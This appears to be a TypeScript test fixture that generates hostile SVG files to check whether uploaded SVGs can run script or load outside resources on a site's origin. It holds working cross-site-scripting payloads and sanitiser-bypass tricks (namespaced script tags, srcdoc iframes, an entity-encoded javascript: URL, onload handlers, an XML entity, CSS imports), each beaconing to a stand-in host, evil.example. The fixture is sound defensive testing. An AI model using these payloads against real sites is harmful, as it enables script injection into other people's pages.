/**
 * SVG files that run script or load another resource when a browser opens them as a document
 * on our origin. `marker` is a URL the payload calls home to; running script also marks the
 * document (and its parent) with data-ran, so a browser test can tell whether anything ran.
 */
export function hostileSvgs(marker = 'https://evil.example'): Record<string, string> {
  const run = (tag: string) =>
    `document.documentElement.setAttribute('data-ran','${tag}');` +
    `try{parent.document.documentElement.setAttribute('data-ran','${tag}')}catch(e){}` +
    `new Image().src='${marker}/${tag}'`
  const svg = (body: string, namespaces = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg"${namespaces} width="400" height="400">${body}</svg>`
  const xlink = ' xmlns:xlink="http://www.w3.org/1999/xlink"'
  const xhtml = ' xmlns:h="http://www.w3.org/1999/xhtml"'
  return {
    script: svg(`<script>${run('script')}</script>`),
    'svg:script (prefixed SVG namespace)': svg(
      `<svg:script>${run('svg-script')}</svg:script>`,
      ' xmlns:svg="http://www.w3.org/2000/svg"',
    ),
    'h:script (XHTML namespace)': svg(`<h:script>${run('h-script')}</h:script>`, xhtml),
    'h:iframe srcdoc': svg(
      `<h:iframe srcdoc="&lt;script&gt;${run('iframe')}&lt;/script&gt;"/>` +
        `<foreignObject width="400" height="400"><h:iframe srcdoc="&lt;script&gt;${run('fo-iframe')}&lt;/script&gt;"/></foreignObject>`,
      xhtml,
    ),
    'SMIL set of xlink:href to an entity-encoded javascript: URL': svg(
      `<a><set attributeName="xlink:href" to="&#x6a;avascript:${run('smil')}"/>` +
        '<rect width="400" height="400" fill="#6d3cff"/></a>',
      xlink,
    ),
    'event handler': svg(`<rect width="400" height="400" onload="${run('onload')}"/>`).replace(
      '<svg ',
      `<svg onload="${run('svg-onload')}" `,
    ),
    'CSS url() to another site': svg(
      `<style>rect{fill:url(${marker}/css-url)}</style><rect width="400" height="400"/>`,
    ),
    'CSS @import': svg(`<style>@import url(${marker}/css-import.css);</style><rect width="400" height="400"/>`),
    'style attribute url()': svg(`<rect width="400" height="400" style="fill:url('${marker}/style-url')"/>`),
    'XML entity declaration': `<!DOCTYPE svg [<!ENTITY x "<script>${run('entity')}</script>">]>${svg('&x;')}`,
    'processing instruction stylesheet': `<?xml-stylesheet href="${marker}/pi.css"?>${svg('<rect width="4" height="4"/>')}`,
  }
}
